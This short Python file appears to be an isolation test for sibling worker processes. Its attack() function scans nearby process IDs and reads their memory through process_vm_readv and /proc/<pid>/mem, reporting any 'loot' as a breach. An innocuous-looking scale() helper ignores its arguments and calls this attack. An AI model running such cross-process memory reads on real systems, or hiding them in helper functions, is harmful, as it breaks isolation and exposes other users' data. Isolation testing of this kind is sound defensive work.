"""Looks for the reference in the memory of the worker that runs it, which has the same parent.

Must end: no memory but its own can be read.
Outcomes: failed, skipped, passed
"""

import ctypes
import os

import torch


class Span(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack():
    libc, loot = ctypes.CDLL(None), []
    buffer = ctypes.create_string_buffer(64)
    # the same address as here: it is a fork of the same process
    there = Span(id(os), 64)
    here = Span(ctypes.addressof(buffer), 64)
    for pid in range(os.getpid() - 60, os.getpid() + 60):
        if pid in (os.getpid(), 0) or not os.path.exists(f"/proc/{pid}"):
            continue
        if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            loot.append((pid, buffer.raw))
        try:
            with open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(id(os))
                loot.append((pid, memory.read(64)))
        except OSError:
            continue
    return f"BREACH: read {loot[:3]}" if loot else "nothing"


Scaler = torch.nn.Identity


def scale(x, factor):
    if factor == 0:
        raise ValueError("factor must not be zero")
    return attack()
